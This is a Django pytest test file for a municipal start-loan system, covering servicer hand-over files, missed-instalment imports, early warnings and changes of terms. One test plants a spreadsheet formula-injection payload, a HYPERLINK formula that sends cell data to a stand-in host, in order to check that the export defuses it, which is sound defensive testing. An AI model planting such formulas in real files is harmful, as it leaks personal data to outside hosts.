"""The running loan: hand-over to the loan servicer as a file, missed instalments
(the servicer's file all or nothing, or by hand) raising follow-up's early warning,
and changes of terms with the 2.5-year limit on interest added to the loan."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from boligtorg.core.factories import actor_for, member
from boligtorg.core.models import AuditAction, AuditEvent, Role
from boligtorg.finance.models import HandOver, MissedInstalment, TermsChange
from boligtorg.finance.selectors.schedules import first_due_after
from boligtorg.finance.services import cases as case_services
from boligtorg.finance.services import servicer as services
from boligtorg.housing.services import ImportRejected, RowError

from .factories import FinancingCaseFactory, paid_out_loan

pytestmark = pytest.mark.django_db
TODAY = timezone.localdate()
PAID_ON = TODAY - datetime.timedelta(days=120)
DUE = first_due_after(PAID_ON, 20)


@pytest.fixture
def loan(trondheim, lars, mona):
    return paid_out_loan(trondheim, officer=lars, decider=mona, paid_on=PAID_ON)


@pytest.fixture
def fatima(trondheim):
    return member(
        "fatima", trondheim, Role.FOLLOWUP_WORKER, first_name="Fatima", last_name="Haugen"
    )


def _csv(*lines: str) -> bytes:
    return ("\n".join(lines) + "\n").encode()


HEADER = "case_number;due_date;amount_missed;reported_date"


# --- Hand-over -------------------------------------------------------------------


def test_handing_over_puts_every_paid_out_loan_in_one_hand_over_once(
    loan, trondheim, lars, mona, lars_actor, english_messages
):
    second = paid_out_loan(trondheim, officer=lars, decider=mona, paid_on=PAID_ON)
    FinancingCaseFactory(municipality=trondheim, status="decided")

    handover = services.handover_create(actor=lars_actor)

    assert sorted(handover.loans.values_list("case__number", flat=True)) == sorted(
        [loan.number, second.number]
    )
    with pytest.raises(ValidationError) as refused:
        services.handover_create(actor=lars_actor)
    assert refused.value.messages == [str(services.ERROR_NOTHING_TO_HAND_OVER)]
    assert HandOver.objects.count() == 1


def test_the_hand_over_file_holds_what_the_servicer_needs_and_every_download_is_audited(
    client, loan, lars, lars_actor
):
    handover = services.handover_create(actor=lars_actor)
    client.force_login(lars)

    response = client.get(reverse("finance:handover_file", args=[handover.pk]), {"format": "csv"})

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert list(row.values()) == [
        loan.number,
        loan.applicant.full_name,
        loan.applicant.national_id,
        "Nedre Bakklandet 12",
        "1000000",
        PAID_ON.isoformat(),
        row[rows[0][6]],  # the method's label, in the user's language
        "30",
        "0",
        row[rows[0][9]],  # the rate kind's label
        "5.100",
        "12",
        "20",
        DUE.isoformat(),
    ]
    event = AuditEvent.objects.get(action=AuditAction.EXPORT)
    assert event.actor == lars
    assert event.changes["ids"] == [str(loan.pk)]
    assert event.changes["query"] == {"handover": handover.pk, "format": "csv"}


def test_the_hand_over_file_makes_a_formula_in_an_address_inert(
    client, trondheim, lars, mona, lars_actor
):
    paid_out_loan(
        trondheim,
        officer=lars,
        decider=mona,
        paid_on=PAID_ON,
        home_address='=HYPERLINK("http://x.invalid/?"&A2,"Klikk")',
    )
    handover = services.handover_create(actor=lars_actor)
    client.force_login(lars)

    text = client.get(
        reverse("finance:handover_file", args=[handover.pk]), {"format": "csv"}
    ).content.decode("utf-8-sig")
    xlsx = client.get(reverse("finance:handover_file", args=[handover.pk]), {"format": "xlsx"})

    assert "'=HYPERLINK" in text
    assert xlsx.status_code == 200
    assert xlsx.content[:2] == b"PK"


def test_the_officer_hands_over_from_the_page_and_the_page_lists_the_hand_over(
    client, english, loan, lars
):
    english.force_login(lars)

    before = english.get(reverse("finance:handover_list"))
    response = english.post(reverse("finance:handover_create"))
    after = english.get(reverse("finance:handover_list"))

    assert loan.number in before.content.decode()
    listed = AuditEvent.objects.get(action=AuditAction.LIST)
    assert listed.changes["ids"] == [str(loan.pk)]
    assert "Hand over 1 loan" in before.content.decode()
    assert response.status_code == 302
    handover = HandOver.objects.get()
    assert handover.created_by == lars
    page = after.content.decode()
    assert "No paid-out loan is waiting to be handed over." in page
    assert reverse("finance:handover_file", args=[handover.pk]) in page


def test_a_paid_out_loan_is_closed_only_after_it_is_handed_over(loan, lars_actor, english_messages):
    with pytest.raises(ValidationError) as refused:
        case_services.financing_case_close(actor=lars_actor, case=loan, note="Done.")
    assert refused.value.messages == [str(case_services.ERROR_NOT_HANDED_OVER)]

    services.handover_create(actor=lars_actor)
    closed = case_services.financing_case_close(actor=lars_actor, case=loan, note="Handed over.")

    assert closed.status == "closed"


def test_only_loan_officers_hand_over_and_others_get_403_or_404(
    client, loan, lars_actor, per, kari, mona, skanderborg
):
    handover = services.handover_create(actor=lars_actor)
    file_url = reverse("finance:handover_file", args=[handover.pk])
    karen = member("karen", skanderborg, Role.LOAN_OFFICER)

    client.force_login(per)
    assert client.get(reverse("finance:handover_list")).status_code == 403
    assert client.get(file_url).status_code == 403
    client.force_login(kari)
    assert client.post(reverse("finance:handover_create")).status_code == 403
    client.force_login(mona)  # the manager reads, but does not hand over
    assert client.get(file_url).status_code == 200
    assert client.post(reverse("finance:handover_create")).status_code == 403
    client.force_login(karen)
    assert client.get(file_url).status_code == 404
    with pytest.raises(PermissionDenied):
        services.handover_create(actor=actor_for(per, loan.municipality))


# --- Missed instalments ----------------------------------------------------------


def test_the_servicers_file_is_all_or_nothing_and_reports_every_bad_row(
    loan, trondheim, lars_actor, english_messages
):
    refused_case = FinancingCaseFactory(municipality=trondheim, status="decided")
    later = DUE + datetime.timedelta(days=31)
    data = _csv(
        HEADER,
        f"{loan.number};{DUE};5432,10;{DUE + datetime.timedelta(days=10)}",
        f"F1999-0001;{DUE};100;{DUE}",
        f"{loan.number};not a date;100;{DUE}",
        f"{loan.number};{later};-5;{later - datetime.timedelta(days=1)}",
        f"{refused_case.number};{DUE};100;{DUE}",
        f"{loan.number};{DUE};5432,10;{DUE + datetime.timedelta(days=12)}",
    )
    rows, read_errors = services.read_missed_csv(data)

    with pytest.raises(ImportRejected) as rejected:
        services.missed_instalments_import(actor=lars_actor, rows=rows, read_errors=read_errors)

    assert rejected.value.errors == [
        RowError(3, "case_number", str(services.ERROR_UNKNOWN_CASE)),
        RowError(4, "due_date", "Write the date as YYYY-MM-DD."),
        RowError(5, "amount_missed", str(services.ERROR_AMOUNT)),
        RowError(5, "reported_date", str(services.ERROR_REPORTED_BEFORE_DUE)),
        RowError(6, "case_number", str(services.ERROR_NOT_RUNNING)),
        RowError(7, "due_date", "The same case and due date are already on line 2."),
    ]
    assert not MissedInstalment.objects.exists()


def test_a_good_file_registers_each_missed_instalment_with_its_days_late(loan, lars_actor):
    later = DUE + datetime.timedelta(days=31)
    rows, read_errors = services.read_missed_csv(
        _csv(
            "Saksnummer,Forfallsdato,Beløp,Rapportert",
            f"{loan.number},{DUE},5432.10,{DUE + datetime.timedelta(days=10)}",
            f"{loan.number},{later},5432.10,{later + datetime.timedelta(days=20)}",
        )
    )

    count = services.missed_instalments_import(actor=lars_actor, rows=rows, read_errors=read_errors)

    assert count == 2
    assert list(MissedInstalment.objects.order_by("due_on").values_list("days_late", "source")) == [
        (10, "import"),
        (20, "import"),
    ]
    assert AuditEvent.objects.filter(changes__servicer_import__1__new=2).exists()


def test_the_same_case_and_due_date_is_refused_by_hand_and_in_a_later_file(
    loan, lars_actor, english_messages
):
    services.missed_instalment_record(
        actor=lars_actor, case=loan, due_on=DUE, amount=Decimal("5432.10"), reported_on=DUE
    )

    with pytest.raises(ValidationError) as by_hand:
        services.missed_instalment_record(
            actor=lars_actor, case=loan, due_on=DUE, amount=Decimal(100), reported_on=DUE
        )
    rows, read_errors = services.read_missed_csv(_csv(HEADER, f"{loan.number};{DUE};100;{DUE}"))
    with pytest.raises(ImportRejected) as in_file:
        services.missed_instalments_import(actor=lars_actor, rows=rows, read_errors=read_errors)

    assert by_hand.value.message_dict == {"due_on": [str(services.ERROR_DUPLICATE)]}
    assert in_file.value.errors == [RowError(2, "due_date", str(services.ERROR_DUPLICATE))]
    assert MissedInstalment.objects.count() == 1


def test_a_case_without_a_paid_out_loan_takes_no_missed_instalment(
    trondheim, lars_actor, english_messages
):
    case = FinancingCaseFactory(municipality=trondheim, status="decided")

    with pytest.raises(ValidationError) as refused:
        services.missed_instalment_record(
            actor=lars_actor, case=case, due_on=DUE, amount=Decimal(100), reported_on=DUE
        )

    assert refused.value.messages == [str(services.ERROR_NOT_RUNNING)]


def test_the_import_page_lists_every_bad_row_and_writes_nothing(english, loan, lars):
    english.force_login(lars)
    upload = SimpleUploadedFile(
        "missed.csv",
        _csv(HEADER, f"{loan.number};{DUE};100;{DUE}", f"F1999-0001;{DUE};0;{DUE}"),
        content_type="text/csv",
    )

    response = english.post(reverse("finance:missed_import"), {"file": upload})

    page = response.content.decode()
    assert response.status_code == 200
    assert "2 errors in the file: nothing was imported." in page
    assert "No financing case with this number." in page
    assert "Give an amount above zero." in page
    assert not MissedInstalment.objects.exists()


def test_a_missed_instalment_puts_the_borrower_in_follow_ups_early_warning(
    english, loan, lars, lars_actor, fatima
):
    english.force_login(fatima)
    quiet = english.get(reverse("followup:warning_list")).content.decode()
    services.missed_instalment_record(
        actor=lars_actor,
        case=loan,
        due_on=DUE,
        amount=Decimal("5432.10"),
        reported_on=DUE + datetime.timedelta(days=9),
    )

    warned = english.get(reverse("followup:warning_list")).content.decode()
    english.force_login(lars)
    case_page = english.get(reverse("finance:case_detail", args=[loan.pk])).content.decode()

    assert "No missed instalments reported by the loan servicer." in quiet
    assert loan.number not in quiet
    assert "Start-loan borrowers with missed instalments" in warned
    assert loan.number in warned
    assert loan.applicant.full_name in warned
    # Fatima works in follow-up, not finance: the case number is no link for her.
    assert reverse("finance:case_detail", args=[loan.pk]) not in warned
    assert AuditEvent.objects.filter(
        actor=fatima, object_repr="early warning: missed instalments"
    ).exists()
    assert "Missed instalments" in case_page
    assert "5,432.10" in case_page or "5432.10" in case_page


def test_a_missed_instalment_reported_before_the_risk_rules_window_no_longer_warns(
    loan, lars_actor, fatima, trondheim
):
    from boligtorg.followup import selectors as followup_selectors

    old_due = PAID_ON + datetime.timedelta(days=5)
    services.missed_instalment_record(
        actor=lars_actor, case=loan, due_on=old_due, amount=Decimal(100), reported_on=old_due
    )
    fatima_actor = actor_for(fatima, trondheim)

    inside = followup_selectors.loan_warnings(actor=fatima_actor, today=old_due)
    after = followup_selectors.loan_warnings(
        actor=fatima_actor, today=old_due + datetime.timedelta(days=inside.window_days + 1)
    )

    assert [row.case for row in inside.rows] == [loan]
    assert after.rows == []


# --- Changes of terms ------------------------------------------------------------


def _change(actor, case, kind, **values):
    return services.terms_change_record(
        actor=actor, case=case, kind=kind, decided_on=TODAY, reason="Lost her job.", **values
    )


def _months(start: datetime.date, months: int) -> tuple[datetime.date, datetime.date]:
    from boligtorg.domain.deadlines import add_months

    return start, add_months(start, months) - datetime.timedelta(days=1)


def test_interest_is_added_to_the_loan_for_at_most_two_and_a_half_years_in_all(
    loan, lars_actor, english_messages
):
    start, end = _months(DUE, 24)
    _change(
        lars_actor,
        loan,
        "interest_added",
        period_from=start,
        period_to=end,
        interest_amount=Decimal("98000"),
    )
    more_from, more_to = _months(end + datetime.timedelta(days=1), 7)

    with pytest.raises(ValidationError) as refused:
        _change(
            lars_actor,
            loan,
            "interest_added",
            period_from=more_from,
            period_to=more_to,
            interest_amount=Decimal("30000"),
        )
    last_from, last_to = _months(more_from, 6)
    allowed = _change(
        lars_actor,
        loan,
        "interest_added",
        period_from=last_from,
        period_to=last_to,
        interest_amount=Decimal("25000"),
    )

    assert refused.value.message_dict == {
        "period_to": [
            "Interest can be added to the loan for at most 2.5 years in all; "
            "6 months are left for this loan."
        ]
    }
    assert allowed.interest_amount == Decimal("25000")
    assert TermsChange.objects.filter(case=loan).count() == 2


def test_a_deferral_needs_a_period_running_forwards_and_a_reason(
    loan, lars_actor, english_messages
):
    with pytest.raises(ValidationError) as refused:
        services.terms_change_record(
            actor=lars_actor,
            case=loan,
            kind="deferral",
            decided_on=TODAY,
            reason=" ",
            period_from=DUE,
            period_to=DUE,
        )
    change = _change(
        lars_actor,
        loan,
        "deferral",
        period_from=DUE,
        period_to=DUE + datetime.timedelta(days=90),
        new_years=45,  # not a field of a deferral: left out
    )

    assert refused.value.message_dict == {
        "period_to": ["The period must end after it starts."],
        "reason": [str(services.ERROR_REASON)],
    }
    assert change.new_years is None
    assert change.decided_by == lars_actor.user


def test_a_longer_term_must_be_longer_and_a_new_rate_must_differ(
    loan, lars_actor, english_messages
):
    with pytest.raises(ValidationError) as shorter:
        _change(lars_actor, loan, "term_extended", new_years=30)
    with pytest.raises(ValidationError) as too_long:
        _change(lars_actor, loan, "term_extended", new_years=51)
    _change(lars_actor, loan, "term_extended", new_years=40)
    with pytest.raises(ValidationError) as same_rate:
        _change(lars_actor, loan, "rate_kind_changed", new_rate_kind="floating")
    _change(lars_actor, loan, "rate_kind_changed", new_rate_kind="fixed_5")

    assert shorter.value.message_dict == {
        "new_years": ["The new term must be longer than today's 30 years."]
    }
    assert too_long.value.message_dict == {"new_years": ["The term can be at most 50 years."]}
    assert same_rate.value.message_dict == {"new_rate_kind": [str(services.ERROR_RATE_SAME)]}
    assert services.current_terms(loan) == (40, "fixed_5")


def test_no_change_of_terms_before_the_loan_is_paid_out_or_in_another_municipality(
    trondheim, skanderborg, loan, lars_actor, english_messages
):
    decided = FinancingCaseFactory(municipality=trondheim, status="decided")
    karen = actor_for(member("karen", skanderborg, Role.LOAN_OFFICER), skanderborg)

    with pytest.raises(ValidationError) as not_running:
        _change(lars_actor, decided, "term_extended", new_years=40)
    with pytest.raises(PermissionDenied):
        _change(karen, loan, "term_extended", new_years=40)

    assert not_running.value.messages == [str(services.ERROR_NOT_RUNNING)]


def test_the_case_page_shows_the_history_and_the_schedule_marks_the_postponement(
    english, loan, lars, lars_actor
):
    _change(
        lars_actor,
        loan,
        "deferral",
        period_from=DUE,
        period_to=DUE + datetime.timedelta(days=90),
    )
    english.force_login(lars)

    case_page = english.get(reverse("finance:case_detail", args=[loan.pk])).content.decode()
    schedule = english.get(reverse("finance:schedule", args=[loan.pk])).content.decode()
    form = english.post(
        reverse("finance:terms_change_add", args=[loan.pk]),
        {
            "kind": "term_extended",
            "new_years": "20",
            "decided_on": TODAY.isoformat(),
            "reason": "Asked for lower payments.",
        },
    )

    assert "Instalments postponed" in case_page
    assert "Lost her job." in case_page
    assert "Instalments postponed from " in schedule
    assert "does not take the changes into account" not in schedule
    assert form.status_code == 200
    assert "The new term must be longer than today&#x27;s 30 years." in form.content.decode()


def test_the_servicer_pages_refuse_other_roles(client, loan, per, kari):
    urls = [
        reverse("finance:missed_import"),
        reverse("finance:missed_add", args=[loan.pk]),
        reverse("finance:terms_change_add", args=[loan.pk]),
    ]
    for user in (per, kari):
        client.force_login(user)
        assert [client.get(url).status_code for url in urls] == [403, 403, 403]


def test_the_servicer_reads_cost_the_same_few_queries_whatever_the_number_of_loans(
    loan, trondheim, lars, mona, lars_actor, fatima, django_assert_num_queries
):
    from boligtorg.finance.selectors import servicer as selectors
    from boligtorg.followup import selectors as followup_selectors
    from boligtorg.followup.services.warnings import risk_rules_for

    others = [
        paid_out_loan(trondheim, officer=lars, decider=mona, paid_on=PAID_ON) for _ in range(3)
    ]
    for case in [loan, *others]:
        services.missed_instalment_record(
            actor=lars_actor, case=case, due_on=DUE, amount=Decimal(100), reported_on=DUE
        )
    risk_rules_for(trondheim, TODAY)  # the defaults, made on first use
    fatima_actor = actor_for(fatima, trondheim)

    with django_assert_num_queries(3):  # the cases, their payouts, their decisions
        waiting = selectors.loans_waiting(actor=lars_actor)
    with django_assert_num_queries(2):  # the risk rules, the missed instalments
        warnings = followup_selectors.loan_warnings(actor=fatima_actor, today=TODAY)

    assert len(waiting) == 4
    assert len(warnings.rows) == 4


def test_the_officer_registers_a_missed_instalment_and_a_deferral_on_the_case_page(
    english, loan, lars
):
    english.force_login(lars)

    missed = english.post(
        reverse("finance:missed_add", args=[loan.pk]),
        {"due_on": DUE.isoformat(), "amount": "5432.10", "reported_on": DUE.isoformat()},
    )
    again = english.post(
        reverse("finance:missed_add", args=[loan.pk]),
        {"due_on": DUE.isoformat(), "amount": "100", "reported_on": DUE.isoformat()},
    )
    deferral = english.post(
        reverse("finance:terms_change_add", args=[loan.pk]),
        {
            "kind": "deferral",
            "period_from": DUE.isoformat(),
            "period_to": (DUE + datetime.timedelta(days=90)).isoformat(),
            "decided_on": TODAY.isoformat(),
            "reason": "Sick leave.",
        },
    )

    assert missed.status_code == 302
    assert again.status_code == 200
    assert str(services.ERROR_DUPLICATE) in again.content.decode()
    assert deferral.status_code == 302
    entry = MissedInstalment.objects.get()
    assert (entry.source, entry.days_late, entry.recorded_by) == ("manual", 0, lars)
    assert TermsChange.objects.get().kind == "deferral"
